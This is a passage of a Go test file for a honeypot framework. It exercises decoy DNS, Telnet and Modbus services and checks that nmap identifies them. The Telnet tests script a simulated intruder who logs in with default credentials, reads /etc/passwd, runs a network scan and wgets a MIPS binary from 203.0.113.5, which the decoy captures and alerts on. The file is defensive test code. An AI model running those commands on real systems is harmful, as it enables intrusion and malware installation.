			if q != "\x05decoy\x07example\x00\x00\x01\x00\x01" {
				t.Errorf("captured question %q", q)
			}
		}
		// the id of the query (two bytes, one character each) is the id dig prints for the reply
		txid := captured(acts, "txid")
		if len(txid) == 0 || len([]rune(txid[len(txid)-1])) != 2 {
			t.Fatalf("captured txid %q, want a 2-byte id", txid)
		}
		id := []rune(txid[len(txid)-1])
		wantContains(t, "dig A", out, "id: "+strconv.Itoa(int(id[0])<<8|int(id[1]))+"\n")
	})

	t.Run("A without EDNS", func(t *testing.T) {
		out, _ := query(t, 2, "+noedns", "www.Decoy.example", "A")
		wantContains(t, "dig A +noedns", out, "status: NOERROR", "ANSWER: 1")
		// the question is echoed as sent, case included
		wantMatch(t, "dig A +noedns", out, `(?m)^www\.Decoy\.example\.\s+300\s+IN\s+A\s+192\.0\.2\.1$`)
	})

	t.Run("AAAA", func(t *testing.T) {
		out, _ := query(t, 3, "decoy.example", "AAAA")
		wantContains(t, "dig AAAA", out, "status: NOERROR", "ANSWER: 0")
	})

	t.Run("version.bind", func(t *testing.T) {
		out, acts := query(t, 1, "version.bind", "TXT", "CH", "+short")
		if strings.TrimSpace(out) != `"9.18.28-1~deb12u2-Debian"` {
			t.Errorf("version.bind: %q", out)
		}
		if !alertedBy(acts, 1) {
			t.Errorf("version.bind (rule 1) not an alert; activities:\n%s", dump(acts))
		}
	})

	t.Run("global counter", func(t *testing.T) {
		acts := srv.Activities.All()
		if got, want := global(acts, "queries"), strconv.Itoa(count(acts, v1alpha1.ActivityInput)); got != want {
			t.Errorf("global queries = %q, want %s (one per query)", got, want)
		}
	})
}

// --- interactive clients ---

// terminal drives an interactive client (socat, nc): it writes a line once the text it
// expects has arrived, so that each line reaches the decoy as one read, with no sleeps.
type terminal struct {
	t     *testing.T
	name  string
	out   connectortest.Buffer
	pos   int
	stdin io.WriteCloser
	done  chan struct{}
	err   error
}

// startTerminal starts bin; the test's end closes its stdin and kills it if still running.
func startTerminal(t *testing.T, bin string, args ...string) *terminal {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), clientTimeout)
	cmd := exec.CommandContext(ctx, bin, args...)
	term := &terminal{t: t, name: bin + " " + strings.Join(args, " "), done: make(chan struct{})}
	cmd.Stdout, cmd.Stderr = &term.out, &term.out
	stdin, err := cmd.StdinPipe()
	if err != nil {
		cancel()
		t.Fatal(err)
	}
	term.stdin = stdin
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatalf("%s: %v", term.name, err)
	}
	go func() {
		term.err = cmd.Wait()
		close(term.done)
	}()
	t.Cleanup(func() {
		_ = stdin.Close()
		cancel()
		<-term.done
		t.Logf("$ %s\n%s", term.name, term.out.String())
	})
	return term
}

// expect waits for want in the output after what earlier expects consumed.
func (term *terminal) expect(want string) {
	term.t.Helper()
	deadline := time.Now().Add(waitTimeout)
	for {
		s := term.out.String()
		if i := strings.Index(s[term.pos:], want); i >= 0 {
			term.pos += i + len(want)
			return
		}
		if time.Now().After(deadline) {
			term.t.Fatalf("%s: no %q within %v; output so far:\n%s", term.name, want, waitTimeout, s)
		}
		time.Sleep(pollEvery)
	}
}

// send writes text and a newline.
func (term *terminal) send(text string) {
	term.t.Helper()
	if _, err := io.WriteString(term.stdin, text+"\n"); err != nil {
		term.t.Fatalf("%s: send %q: %v", term.name, text, err)
	}
}

// exit waits for the client to exit 0 on its own (the decoy closed the connection).
func (term *terminal) exit() {
	term.t.Helper()
	select {
	case <-term.done:
		if term.err != nil {
			term.t.Fatalf("%s: %v; output:\n%s", term.name, term.err, term.out.String())
		}
	case <-time.After(clientTimeout):
		term.t.Fatalf("%s did not exit; output:\n%s", term.name, term.out.String())
	}
}

// --- Telnet: socat ---

func TestTelnet(t *testing.T) {
	socat := client(t, "socat", "socat")
	srv := serve(t, "telnet.yaml")
	mark := srv.mark()
	term := startTerminal(t, socat, "-", "TCP:"+srv.addr())

	prompt := "admin@router:~$ "
	// Linux telnetd's first words: IAC DO TERMINAL-TYPE, TSPEED, XDISPLOC, NEW-ENVIRON
	term.expect(telnetDo)
	// a telnet client's answers (IAC WONT each) get the banner and the login prompt
	term.send("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27")
	term.expect("\r\nUbuntu 22.04.4 LTS\r\nrouter login: ")
	term.send("admin")
	term.expect("Password: ")
	term.send("admin123")
	term.expect("Welcome to Ubuntu")
	term.expect(prompt)
	term.send("uname -a")
	term.expect("Linux router 5.15.0-105-generic")
	term.expect("x86_64 GNU/Linux\r\n" + prompt)
	term.send("id")
	term.expect("uid=1000(admin) gid=1000(admin)")
	term.expect(prompt)
	term.send("whoami")
	term.expect("admin\r\n" + prompt)
	term.send("")
	term.expect(prompt)
	term.send("ls -la")
	term.expect("notes.txt\r\n" + prompt)
	term.send("cat /etc/passwd")
	term.expect("root:x:0:0:root:/root:/bin/bash")
	term.expect("admin:x:1000:1000:admin:/home/admin:/bin/bash\r\n" + prompt)
	term.send("nmap -sS 10.0.0.0/8")
	term.expect("sh: nmap: not found\r\n" + prompt)
	term.send("cd /tmp; wget http://203.0.113.5/bins/mips -O m")
	term.expect(prompt)
	term.send("wget http://203.0.113.5/bins/mips -O m")
	term.expect("wget: unable to resolve host address\r\n" + prompt)
	term.send("/bin/busybox PARLEY")
	term.expect("PARLEY: applet not found\r\n" + prompt)
	term.send("exit")
	term.expect("logout\r\n")
	term.exit() // the decoy closed the connection

	acts := srv.waitEnded(t, mark)
	if !endedBy(acts, "ending rule 10") {
		t.Errorf("not ended by exit (rule 10); activities:\n%s", dump(acts))
	}
	wantValues(t, acts, "captured user", captured(acts, "user"), "admin")
	wantValues(t, acts, "captured password", captured(acts, "password"), "admin123")
	wantValues(t, acts, "captured cmd", captured(acts, "cmd"), "nmap", "wget")
	wantValues(t, acts, "captured url", captured(acts, "url"), "http://203.0.113.5/bins/mips")
	wantValues(t, acts, "captured applet", captured(acts, "applet"), "PARLEY")
	if strings.Count(term.out.String(), "router login: ") != 1 {
		t.Errorf("the login prompt came more than once:\n%s", term.out.String())
	}
	want := []int32{3, 1, 2, 11, 14, 15, 17, 20, 99, 18, 21, 22, 10}
	if got := executed(acts); !slices.Equal(got, want) {
		t.Errorf("executed %v, want %v; activities:\n%s", got, want, dump(acts))
	}
	if !alertedBy(acts, 2) {
		t.Errorf("login (rule 2) not an alert; activities:\n%s", dump(acts))
	}
	if !alertedBy(acts, 21) {
		t.Errorf("download (rule 21) not an alert")
	}
	if got := asyncRan(acts); !slices.Equal(got, []int32{90}) {
		t.Errorf("async rules %v, want the login counter (90)", got)
	}
	if n := count(acts, v1alpha1.ActivityInput); n != len(want)+1 { // + the empty line
		t.Errorf("%d inputs, want %d (one per line); activities:\n%s", n, len(want)+1, dump(acts))
	}
	if got := memory(acts, "stage"); got != "shell" {
		t.Errorf("stage = %q, want shell", got)
	}
}

// TestModbus drives the Modbus/TCP decoy with socat sending requests as binary bytes: every
// reply must carry the request's transaction and unit ids and the MBAP length CEL computed.
func TestModbus(t *testing.T) {
	socat := client(t, "socat", "socat")
	srv := serve(t, "modbus.yaml")
	exchange := func(req, want string) {
		t.Helper()
		// One connection per request: socat sends it, half-closes, and prints the reply.
		got := runOK(t, req, socat, "-t", "10", "-", "TCP:"+srv.addr())
		if got != want {
			t.Errorf("request % x: reply % x, want % x", req, got, want)
		}
	}
	// Read registers 0 and 1 (transaction 0x0001, unit 1).
	exchange("\x00\x01\x00\x00\x00\x06\x01\x03\x00\x00\x00\x02", "\x00\x01\x00\x00\x00\x07\x01\x03\x04\x00\x00\x00\x01")
	// Read the last three registers (transaction 0xbeef, unit 0x11).
	exchange("\xbe\xef\x00\x00\x00\x06\x11\x03\x00\x0d\x00\x03", "\xbe\xef\x00\x00\x00\x09\x11\x03\x06\x00\x0d\x00\x0e\x00\x0f")
	// Write 0x1234 into register 1: echoed, an alert, and kept for the next connection.
	mark := srv.mark()
	exchange("\x00\x02\x00\x00\x00\x06\x01\x06\x00\x01\x12\x34", "\x00\x02\x00\x00\x00\x06\x01\x06\x00\x01\x12\x34")
	acts := srv.waitFor(t, mark, "the write's input, an alert", func(a []*v1alpha1.ActivityRecord) bool { return alertedBy(a, 2) })
	if got := global(acts, "registers"); len(got) != 64 || got[4:8] != "1234" {
		t.Errorf("registers after the write: %q", got)
	}
	exchange("\x00\x03\x00\x00\x00\x06\x01\x03\x00\x01\x00\x01", "\x00\x03\x00\x00\x00\x05\x01\x03\x02\x12\x34")
	// Past the sixteen registers: exception 2; an unknown function: exception 1.
	exchange("\x00\x04\x00\x00\x00\x06\x01\x03\x00\x0f\x00\x02", "\x00\x04\x00\x00\x00\x03\x01\x83\x02")
	exchange("\x00\x05\x00\x00\x00\x06\x01\x06\x00\x10\x00\x01", "\x00\x05\x00\x00\x00\x03\x01\x86\x02")
	exchange("\x00\x06\x00\x00\x00\x02\x01\x2b", "\x00\x06\x00\x00\x00\x03\x01\xab\x01")
	// What nmap -sV sends and recognises Modbus by (nmap-service-probes: GetRequest and
	// GenericLines, "match modbus").
	exchange("GET / HTTP/1.0\r\n\r\n", "GET \x00\x03H\xd4\x01")
	exchange("\r\n\r\n", "\r\n\r\n\x00\x03\x00\x80\x01")
	if errs := srv.Activities.Of(v1alpha1.ActivityError); len(errs) > 0 {
		t.Errorf("error activities: %s", dump(errs))
	}
}

// telnetDo is what Linux's telnetd sends first, and what nmap recognises it by.
const telnetDo = "\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"

// A raw client does not negotiate: an empty line gets the banner and the login prompt.
func TestTelnetRawClient(t *testing.T) {
	nc := client(t, "nc.openbsd", "netcat-openbsd")
	srv := serve(t, "telnet.yaml")
	mark := srv.mark()
	term := startTerminal(t, nc, "-N", "127.0.0.1", strconv.Itoa(srv.port))
	term.expect(telnetDo)
	term.send("")
	term.expect("\r\nUbuntu 22.04.4 LTS\r\nrouter login: ")
	term.send("root")
	term.expect("Password: ")
	term.send("toor")
	term.expect("root@router:~$ ")
	// a late option answer (IAC DONT ECHO) is taken silently; then the client leaves
	term.send("\xff\xfe\x01")
	_ = term.stdin.Close() // -N: nc shuts its side down, the decoy ends the conversation
	term.exit()
	acts := srv.waitEnded(t, mark)
	wantValues(t, acts, "captured user", captured(acts, "user"), "root")
	if got, want := executed(acts), []int32{1, 2, 4}; !slices.Equal(got, want) {
		t.Errorf("executed %v, want %v; activities:\n%s", got, want, dump(acts))
	}
	if last := inputsOf(acts, 4); len(last) != 1 || !strings.HasSuffix(term.out.String(), "root@router:~$ ") {
		t.Errorf("the late option answer got a reply:\n%q", term.out.String())
	}
}

// --- nmap: every TCP example is recognised as the service it emulates ---

// nmapService is the service `nmap -sV` must name for each TCP example, and the options that
// make nmap send, on a free port, the probe it sends on the service's own port.
var nmapService = map[string]struct {
	service string
	args    []string
}{
	// the NULL probe: the 220 banner (Postfix smtpd)
	"smtp.yaml": {service: "smtp"},
	// the NULL probe: Linux telnetd's option negotiation
	"telnet.yaml": {service: "telnet"},
	// the GetRequest probe: an inline GET with two arguments and Redis's arity error
	"redis.yaml": {service: "redis"},
	// the MQTT CONNECT probe, answered by a CONNACK: nmap sends it to port 1883 at its
	// default intensity and elsewhere only with every probe (it is rarity 9); the other
	// probes end at once, as a broker closes on a first packet that is not CONNECT
	"mqtt.yaml": {service: "mqtt", args: []string{"--version-all"}},
	// the GenericLines probe (\r\n\r\n), read as a request of function 3 and answered with
	// a Modbus exception
	"modbus.yaml": {service: "modbus"},
}

// TestNmapRecognisesTCPExamples scans each TCP example with nmap -sV on a free port and
// checks the service it names. The scans run in parallel: each takes from a few seconds
// (a banner) to half a minute (every probe).
func TestNmapRecognisesTCPExamples(t *testing.T) {
	bin, err := exec.LookPath("nmap")
	if err != nil {
		t.Skipf("nmap not found (%v): install the Debian package nmap (apt-get install -y nmap) to check what scanners see", err)
	}
	for _, name := range exampleNames(t) {
		doc, err := Rules(name)
		if err != nil {
			t.Fatal(err)
		}
		if doc.Rules.Spec.Operation.Transport == v1alpha1.TransportUDP {
			continue
		}
		t.Run(name, func(t *testing.T) {
			want, ok := nmapService[name]
			if !ok {
				t.Fatalf("%s is a TCP example: add the service nmap -sV must recognise to nmapService", name)
			}
			t.Parallel()
			srv := serve(t, name)
			port := strconv.Itoa(srv.port)
			args := append([]string{"-sV", "-Pn", "-n", "--max-retries", "1", "-p", port, "-oG", "-"}, want.args...)
			args = append(args, "127.0.0.1")
			ctx, cancel := context.WithTimeout(context.Background(), nmapTimeout)
			defer cancel()
			out, err := exec.CommandContext(ctx, bin, args...).CombinedOutput()
			if err != nil {
				t.Fatalf("nmap %s: %v\n%s", strings.Join(args, " "), err, out)
			}
			// grepable output: "Ports: 2525/open/tcp//smtp//Postfix smtpd/"
			m := regexp.MustCompile(`\b` + port + `/open/tcp//([^/]*)//([^/]*)/`).FindStringSubmatch(string(out))
			if m == nil {
				t.Fatalf("nmap found no open port %s:\n%s", port, out)
			}
			if m[1] != want.service {
				t.Errorf("nmap -sV says %q (%s), want %q:\n%s", m[1], m[2], want.service, out)
			}
			t.Logf("nmap -sV: %s (%s)", m[1], m[2])
		})
	}
}

// nmapTimeout bounds one scan: --version-all sends every probe, on two busy cores.
const nmapTimeout = 3 * time.Minute
